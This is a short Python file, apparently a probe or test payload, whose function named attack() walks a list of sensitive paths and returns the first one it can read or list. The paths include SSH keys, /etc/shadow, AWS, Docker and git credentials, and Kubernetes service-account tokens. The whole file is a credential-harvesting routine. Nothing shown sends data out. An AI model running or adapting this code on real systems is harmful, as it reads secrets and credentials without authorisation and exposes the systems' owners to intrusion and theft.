import os

PLACES = """/root/.ssh /root/.docker/config.json /root/.netrc /root/.git-credentials /root/.aws /etc/shadow
/run/secrets /var/run/secrets/kubernetes.io/serviceaccount/token /home/*/.ssh /proc/1/root/etc/shadow
/etc/kubernetes /var/lib/docker /etc/docker/key.json /.dockerenv.secrets""".split()


def attack():
    for place in PLACES:
        try:
            if os.path.isdir(place):
                return os.listdir(place) or None
            return open(place).read()
        except OSError:
            pass
